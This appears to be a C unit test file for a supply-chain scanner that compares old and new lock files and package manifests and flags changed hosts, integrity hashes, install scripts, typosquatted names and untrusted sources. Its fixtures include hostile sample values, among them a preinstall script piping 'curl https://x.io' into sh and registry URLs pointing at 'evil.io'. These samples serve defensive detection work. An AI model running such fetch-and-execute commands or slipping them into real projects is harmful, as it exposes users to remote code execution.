#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "findings/check_lock.h"
#include "lib/base/auto.h"
#include "tests/unit/findings/feed.h"

#define NPM(entries) "{\"packages\":{\"\":{}," entries "}}"
#define PIN(name, version, rest) \
	"\"node_modules/" name "\":{\"version\":\"" version "\"," rest "}"
#define AT(host, name) \
	"\"resolved\":\"https://" host "/" name "/-/" name "-1.tgz\""
#define SUM(s) "\"integrity\":\"" s "\""
#define OLD                     \
	PIN("express", "1.0.0", \
	    AT("r.example.io", "express") "," SUM("sha512-a"))

static void
npm_locks_are_compared_with_what_they_were(void **state)
{
	static const struct {
		const char *is, *id;
		bool found;
	} rows[] = {
		{ NPM(OLD), "lock-host", false },
		{ NPM(OLD), "lock-integrity", false },
		{ NPM(PIN("express", "1.0.0",
		      AT("evil.io", "express") "," SUM("sha512-a"))),
		    "lock-host", true },
		{ NPM(PIN("express", "1.0.1",
		      AT("r.example.io", "express") "," SUM("sha512-b"))),
		    "lock-host", false },
		{ NPM(PIN("express", "1.0.1",
		      AT("r.example.io", "express") "," SUM("sha512-b"))),
		    "lock-integrity", false },
		{ NPM(PIN("express", "1.0.0",
		      AT("r.example.io", "express") "," SUM("sha512-b"))),
		    "lock-integrity", true },
		{ NPM(PIN("express", "1.0.0",
		      AT("r.example.io", "express") "," SUM("sha1-a"))),
		    "lock-integrity", true },
		{ NPM(PIN("express", "1.0.0", AT("r.example.io", "express"))),
		    "lock-integrity", true },
		{ NPM(OLD "," PIN("left", "1.0.0",
		      "\"resolved\":\"http://r.example.io/left\"")),
		    "lock-insecure", true },
		{ NPM(OLD "," PIN("left", "1.0.0",
		      "\"resolved\":\"git+ssh://git@h/a/left.git#1\"")),
		    "lock-source", true },
		{ NPM(OLD "," PIN(
		      "left", "1.0.0", "\"resolved\":\"file:../../left\"")),
		    "lock-source", true },
		{ NPM(OLD
		      "," PIN("left", "1.0.0", AT("r.example.io", "right"))),
		    "lock-mismatch", true },
		{ NPM(OLD "," PIN(
		      "@s/left", "1.0.0", AT("r.example.io", "@s/left"))),
		    "lock-mismatch", false },
		{ NPM(OLD "," PIN("alias", "1.0.0",
		      "\"name\":\"right\"," AT("r.example.io", "right"))),
		    "lock-mismatch", false },
		{ NPM(OLD
		      "," PIN("left", "1.0.0", "\"hasInstallScript\":true")),
		    "lock-install-script", true },
		{ NPM(OLD "," PIN("expres", "1.0.0", SUM("sha512-c"))),
		    "typosquat", true },
		{ NPM(OLD "," PIN("lodash", "1.0.0", SUM("sha512-c"))),
		    "typosquat", false },
		{ NPM(PIN("express", "0.9.0", AT("r.example.io", "express"))),
		    "lock-downgrade", true },
		{ NPM(PIN("express", "1.0.0",
		      AT("r.example.io", "express") "," SUM("sha512-a") "," AT(
			  "evil.io", "express"))),
		    "lock-unread", true },
		{ "{\"packages\":", "lock-unread", true },
		{ "{\"dependencies\":{\"express\":{\"version\":\"1.0.0\","
		  "\"resolved\":\"https://evil.io/express/-/e.tgz\"}}}",
		    "lock-host", true },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		if (feed_both("a/package-lock.json", NPM(OLD), rows[i].is,
			rows[i].id) != rows[i].found)
			fail_msg("%s: %s", rows[i].id, rows[i].is);
}

static void
locks_of_other_package_managers_are_compared_too(void **state)
{
	static const struct {
		const char *path, *was, *is, *id;
	} rows[] = {
		{ "yarn.lock",
		    "a@^1:\n  version \"1.0.0\"\n"
		    "  resolved \"https://r.io/a/-/a-1.tgz#f00\"\n",
		    "a@^1:\n  version \"1.0.0\"\n"
		    "  resolved \"https://evil.io/a/-/a-1.tgz#f00\"\n",
		    "lock-host" },
		{ "yarn.lock",
		    "a@^1:\n  version \"1.0.0\"\n"
		    "  resolved \"https://r.io/a/-/a-1.tgz#f00\"\n"
		    "  integrity sha512-x\n",
		    "a@^1:\n  version \"1.0.0\"\n"
		    "  resolved \"https://r.io/a/-/a-1.tgz#f00\"\n"
		    "  integrity sha512-y\n",
		    "lock-integrity" },
		{ "yarn.lock",
		    "\"a@npm:^1\":\n  version: 1.0.0\n"
		    "  resolution: \"a@npm:1.0.0\"\n  checksum: aa\n",
		    "\"a@npm:^1\":\n  version: 1.0.0\n"
		    "  resolution: \"a@https://x.io/a.git#1\"\n"
		    "  checksum: aa\n",
		    "lock-source" },
		{ "pnpm-lock.yaml",
		    "packages:\n  /a@1.0.0:\n"
		    "    resolution: {integrity: sha512-x}\n",
		    "packages:\n  /a@1.0.0:\n"
		    "    resolution: {integrity: sha512-y}\n",
		    "lock-integrity" },
		{ "pnpm-lock.yaml",
		    "packages:\n  a@1.0.0:\n"
		    "    resolution: {integrity: sha512-x}\n",
		    "packages:\n  a@1.0.0:\n"
		    "    resolution: {integrity: sha512-x}\n  b@1.0.0:\n"
		    "    resolution: {tarball: http://x.io/b.tgz}\n",
		    "lock-insecure" },
		{ "Cargo.lock",
		    "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\n"
		    "source = \"registry+https://r.io/i\"\n"
		    "checksum = \"aa\"\n",
		    "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\n"
		    "source = \"registry+https://r.io/i\"\n"
		    "checksum = \"bb\"\n",
		    "lock-integrity" },
		{ "Cargo.lock",
		    "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\n"
		    "source = \"registry+https://r.io/i\"\n",
		    "[[package]]\nname = \"a\"\nversion = \"1.0.0\"\n"
		    "source = \"git+https://x.io/a?rev=1#1\"\n",
		    "lock-source" },
		{ "poetry.lock",
		    "[[package]]\nname = \"a\"\nversion = \"1.0\"\nfiles = [\n"
		    " {file = \"a.whl\", hash = \"sha256:aa\"},\n]\n",
		    "[[package]]\nname = \"a\"\nversion = \"1.0\"\nfiles = [\n"
		    " {file = \"a.whl\", hash = \"sha256:bb\"},\n]\n",
		    "lock-integrity" },
		{ "go.sum", "x.io/a v1.0.0 h1:aa=\n", "x.io/a v1.0.0 h1:bb=\n",
		    "lock-integrity" },
		{ "Gemfile.lock",
		    "GEM\n  remote: https://r.io/\n  specs:\n    a (1.0)\n",
		    "GEM\n  remote: https://evil.io/\n  specs:\n    a (1.0)\n",
		    "lock-host" },
		{ "composer.lock",
		    "{\"packages\":[{\"name\":\"a/b\",\"version\":\"1\","
		    "\"dist\":{\"url\":\"https://r.io/z\"}}]}",
		    "{\"packages\":[{\"name\":\"a/b\",\"version\":\"1\","
		    "\"dist\":{\"url\":\"http://r.io/z\"}}]}",
		    "lock-insecure" },
		{ "Pipfile.lock",
		    "{\"default\":{\"a\":{\"version\":\"==1\","
		    "\"hashes\":[\"sha256:aa\"]}}}",
		    "{\"default\":{\"a\":{\"version\":\"==1\","
		    "\"hashes\":[\"sha256:bb\"]}}}",
		    "lock-integrity" },
		{ "requirements.txt", "a==1 \\\n    --hash=sha256:aa\n",
		    "a==1 \\\n    --hash=sha256:bb\n", "lock-integrity" },
		{ "requirements-dev.txt", "requests==1\n",
		    "requests==1\nreqeusts==1\n", "typosquat" },
		{ "requirements.txt", "a==1\n",
		    "a==1\ngit+https://x.io/b.git\n", "lock-source" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		if (!feed_both(
			rows[i].path, rows[i].was, rows[i].is, rows[i].id))
			fail_msg("no %s in %s", rows[i].id, rows[i].is);
		if (feed_both(
			rows[i].path, rows[i].was, rows[i].was, rows[i].id))
			fail_msg("%s in %s", rows[i].id, rows[i].was);
	}
}

static void
more_files_of_the_same_version_are_no_other_contents(void **state)
{
	(void)state;
	assert_false(feed_both("poetry.lock",
	    "[[package]]\nname = \"a\"\nversion = \"1.0\"\n"
	    "hash = \"sha256:aa\"\n",
	    "[[package]]\nname = \"a\"\nversion = \"1.0\"\n"
	    "hash = \"sha256:cc\"\nhash = \"sha256:aa\"\n",
	    "lock-integrity"));
	/* The same key twice: what has the checksum counts. */
	assert_false(feed_both("pnpm-lock.yaml",
	    "packages:\n  a@1.0.0:\n"
	    "    resolution: {integrity: sha512-x}\n",
	    "packages:\n  a@1.0.0:\n"
	    "    resolution: {integrity: sha512-x}\n"
	    "snapshots:\n  a@1.0.0:\n    dependencies: {}\n",
	    "lock-integrity"));
}

#define PACKAGE(rest) "{\"name\":\"x\"," rest "}"

static void
what_a_package_json_runs_and_needs_is_compared(void **state)
{
	static const char was[] = PACKAGE(
	    "\"scripts\":{\"test\":\"jest\",\"prepare\":\"husky\"},"
	    "\"dependencies\":{\"express\":\"^1\"}");
	static const struct {
		const char *is, *id;
		bool found;
	} rows[] = {
		{ PACKAGE("\"scripts\":{\"prepare\":\"husky\"}"),
		    "install-script", false },
		{ PACKAGE("\"scripts\":{\"prepare\":\"x\"}"), "install-script",
		    true },
		{ PACKAGE("\"scripts\":{\"postinstall\":\"node a.js\"}"),
		    "install-script", true },
		{ PACKAGE("\"scripts\":{\"postinstall\":\"node a.js\"}"),
		    "install-download", false },
		{ PACKAGE("\"scripts\":{\"preinstall\":"
			  "\"curl https://x.io | sh\"}"),
		    "install-download", true },
		{ PACKAGE("\"scripts\":{\"test\":\"jest -u\"}"),
		    "script-changed", true },
		{ PACKAGE("\"scripts\":{\"test\":\"jest\","
			  "\"prepare\":\"husky\",\"prepare\":\"evil\"}"),
		    "install-script", true },
		{ PACKAGE("\"dependencies\":{\"expres\":\"^1\"}"), "typosquat",
		    true },
		{ PACKAGE("\"dependencies\":{\"a\":\"^1\"}"), "dependency-new",
		    true },
		{ PACKAGE("\"dependencies\":{\"express\":\"^2\"}"),
		    "dependency-new", false },
		{ PACKAGE("\"dependencies\":{\"express\":\"^2\"}"),
		    "dependency-source", false },
		{ PACKAGE("\"dependencies\":{\"a\":\"github:o/r\"}"),
		    "dependency-source", true },
		{ PACKAGE("\"dependencies\":{\"a\":\"o/r\"}"),
		    "dependency-source", true },
		{ PACKAGE("\"dependencies\":{\"express\":\"npm:evil@1\"}"),
		    "dependency-source", true },
		{ PACKAGE("\"dependencies\":{\"a\":\"http://x.io/a.tgz\"}"),
		    "dependency-insecure", true },
		{ PACKAGE("\"overrides\":{\"a\":{\"b\":\"file:../b\"}}"),
		    "dependency-source", true },
		{ PACKAGE("\"trustedDependencies\":[\"a\"]"), "build-backend",
		    true },
		{ "{", "lock-unread", true },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		if (feed_both("package.json", was, rows[i].is, rows[i].id) !=
		    rows[i].found)
			fail_msg("%s: %s", rows[i].id, rows[i].is);
}

static void
other_manifests_are_compared_line_by_line(void **state)
{
	static const struct {
		const char *path, *was, *is, *id;
	} rows[] = {
		{ "Cargo.toml", "[package]\n", "[package]\nbuild = \"b.rs\"\n",
		    "build-backend" },
		{ "Cargo.toml", "[lib]\n", "[lib]\nproc-macro = true\n",
		    "build-backend" },
		{ "Cargo.toml", "[package]\n",
		    "[patch.r]\na = { git = \"https://x.io/a\" }\n",
		    "dependency-source" },
		{ "Cargo.toml", "[dependencies]\nserde = \"1\"\n",
		    "[dependencies]\nserde = \"1\"\nsedre = \"1\"\n",
		    "typosquat" },
		{ "Cargo.toml", "[dependencies]\n",
		    "[dependencies]\na = { git = \"git://x.io/a\" }\n",
		    "dependency-insecure" },
		{ "Cargo.toml", "[dependencies]\n",
		    "[dependencies]\na = \"1\"\n", "dependency-new" },
		{ ".cargo/config.toml", "[net]\n",
		    "[build]\nrustc-wrapper = \"./x\"\n", "build-backend" },
		{ "pyproject.toml", "[build-system]\nrequires = [\"a\"]\n",
		    "[build-system]\nrequires = [\"b\"]\n", "build-backend" },
		{ "pyproject.toml", "[project]\n",
		    "[[tool.uv.index]]\nurl = \"https://x.io/s\"\n",
		    "extra-index" },
		{ "pyproject.toml", "[project]\n",
		    "[project]\ndependencies = [\"a @ https://x.io/a\"]\n",
		    "dependency-source" },
		{ "go.mod", "module m\n", "module m\nreplace a => ../b\n",
		    "dependency-source" },
		{ "Gemfile", "gem 'a'\n", "gem 'a'\ngem 'b', git: 'x'\n",
		    "dependency-source" },
		{ "Gemfile", "gem 'a'\n", "source 'https://x.io'\n",
		    "extra-index" },
		{ "Pipfile", "[packages]\n",
		    "[[source]]\nurl = \"https://x.io\"\n", "extra-index" },
		{ "gradle/wrapper/gradle-wrapper.properties",
		    "distributionUrl=https\\://a/x\n"
		    "distributionSha256Sum=aa\n",
		    "distributionUrl=https\\://a/x\n", "pin-lost" },
		{ "gradle/wrapper/gradle-wrapper.properties",
		    "distributionUrl=https\\://a/x\n",
		    "distributionUrl=https\\://b/x\n", "build-backend" },
		{ ".npmrc", "x=1\n", "registry=https://x.io\n", "extra-index" },
		{ ".npmrc", "x=1\n", "ignore-scripts=false\n",
		    "install-script" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		if (!feed_both(
			rows[i].path, rows[i].was, rows[i].is, rows[i].id))
			fail_msg("no %s in %s", rows[i].id, rows[i].is);
		if (feed_both(rows[i].path, rows[i].is, rows[i].is, rows[i].id))
			fail_msg(
			    "%s of what was there: %s", rows[i].id, rows[i].is);
	}
}

static void
a_lock_file_alone_is_noted(void **state)
{
	const struct scan_change lock = { .old_mode = 0100644,
		.new_mode = 0100644,
		.status = 'M',
		.path = "a/Cargo.lock" };
	const struct scan_change manifest = { .old_mode = 0100644,
		.new_mode = 0100644,
		.status = 'M',
		.path = "a/b/Cargo.toml" };

	(void)state;
	for (int with = 0; with < 2; with++) {
		AUTO_STR struct str ids = STR_INIT;
		struct findings f = { .list = NULL };
		struct check *k = check_new(&f);

		check_change(k, &lock);
		if (with)
			check_change(k, &manifest);
		check_end(k);
		check_free(k);
		feed_ids(&f, &ids);
		assert_true(
		    (strstr(str_cstr(&ids), " lock-alone ") == NULL) == with);
		findings_release(&f);
	}
}

/* PATH=STATUS words; is the id found of the path? */
static bool
packs_say(
    const char *changes, const char *tree, const char *id, const char *path)
{
	struct findings f = { .list = NULL };
	struct check *k = check_new(&f);
	struct view rest = view_of(changes), word;
	bool found = false;

	while (view_split(&rest, ' ', &word)) {
		AUTO_FREE char *name = view_dup(
		    (struct view){ word.p, word.len - 2 });
		const struct scan_change c = { .old_mode = 0100644,
			.new_mode = 0100644,
			.status = word.p[word.len - 1],
			.path = name };

		check_change(k, &c);
	}
	check_tree(k, tree, 0100644);
	check_end(k);
	check_free(k);
	for (size_t i = 0; i < f.n; i++)
		found = found ||
		    (strcmp(f.list[i].id, id) == 0 &&
			strcmp(f.list[i].file, path) == 0);
	findings_release(&f);
	return found;
}

static void
a_lock_file_goes_with_the_manifest_beside_it_only(void **state)
{
	(void)state;
	assert_true(packs_say(
	    "package-lock.json=D", "x", "lock-removed", "package-lock.json"));
	assert_true(packs_say("fixtures/old/package.json=D package-lock.json=D",
	    "x", "lock-removed", "package-lock.json"));
	assert_false(packs_say("package-lock.json=D package.json=D", "x",
	    "lock-removed", "package-lock.json"));
	assert_true(
	    packs_say("a/go.mod=D a/go.sum=D b/go.mod=M b/go.sum=D go.sum=M",
		"x", "lock-removed", "b/go.sum"));
	assert_false(packs_say("a/go.mod=D a/go.sum=D b/go.sum=D", "x",
	    "lock-removed", "a/go.sum"));
	assert_true(packs_say(
	    "a/go.mod=M go.mod=M", "go.sum", "manifest-alone", "go.mod"));
	assert_false(packs_say("a/go.mod=M go.mod=M go.sum=M", "go.sum",
	    "manifest-alone", "go.mod"));
	assert_true(packs_say("a/go.mod=M go.mod=M b/go.sum=M", "go.sum",
	    "manifest-alone", "go.mod"));
}

static void
lock_files_that_are_more_than_are_kept_are_said(void **state)
{
	AUTO_STR struct str changes = STR_INIT;

	(void)state;
	for (int i = 0; i < 600; i++)
		str_addf(&changes, "p%d/go.mod=D p%d/go.sum=D ", i, i);
	str_add(&changes, "z/go.sum=D");
	assert_true(
	    packs_say(str_cstr(&changes), "x", "lock-removed", "z/go.sum"));
	assert_false(
	    packs_say(str_cstr(&changes), "x", "lock-removed", "p1/go.sum"));
}

static void
a_lock_file_that_is_emptied_is_as_good_as_gone(void **state)
{
	static const char go[] = "a v1 h1:aa=\nb v1 h1:bb=\n";

	(void)state;
	assert_true(
	    feed_both("package-lock.json", NPM(OLD), "{}", "lock-removed"));
	assert_true(feed_both("package-lock.json", NPM(OLD),
	    "{\"lockfileVersion\":3,\"packages\":{}}", "lock-removed"));
	assert_true(
	    feed_both("package-lock.json", NPM(OLD), "", "lock-removed"));
	assert_true(feed_both("go.sum", go, "", "lock-removed"));
	assert_false(
	    feed_both("package-lock.json", NPM(OLD), NPM(OLD), "lock-removed"));
	assert_false(
	    feed_both("package-lock.json", "{}", "{}", "lock-removed"));
	assert_false(feed_both(
	    "requirements.txt", "a==1 --hash=sha256:aa\n", "", "lock-removed"));
}

static void
names_are_near_by_one_letter(void **state)
{
	static const struct {
		const char *a, *b;
		bool near;
	} rows[] = {
		{ "express", "expres", true },
		{ "express", "exprress", true },
		{ "lodash", "loadsh", true },
		{ "lodash", "lodahs", true },
		{ "requests", "request5", true },
		{ "express", "express", false },
		{ "lodash.get", "lodash.set", false },
		{ "crc16sum", "crc17sum", false },
		{ "vue", "vue2", false },
		{ "react", "preact-x", false },
		{ "", "a", false },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		if (check_is_near(view_of(rows[i].a), view_of(rows[i].b)) !=
		    rows[i].near)
			fail_msg("%s and %s", rows[i].a, rows[i].b);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(npm_locks_are_compared_with_what_they_were),
		cmocka_unit_test(
		    locks_of_other_package_managers_are_compared_too),
		cmocka_unit_test(
		    more_files_of_the_same_version_are_no_other_contents),
		cmocka_unit_test(
		    what_a_package_json_runs_and_needs_is_compared),
		cmocka_unit_test(other_manifests_are_compared_line_by_line),
		cmocka_unit_test(a_lock_file_alone_is_noted),
		cmocka_unit_test(
		    a_lock_file_goes_with_the_manifest_beside_it_only),
		cmocka_unit_test(
		    lock_files_that_are_more_than_are_kept_are_said),
		cmocka_unit_test(
		    a_lock_file_that_is_emptied_is_as_good_as_gone),
		cmocka_unit_test(names_are_near_by_one_letter),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
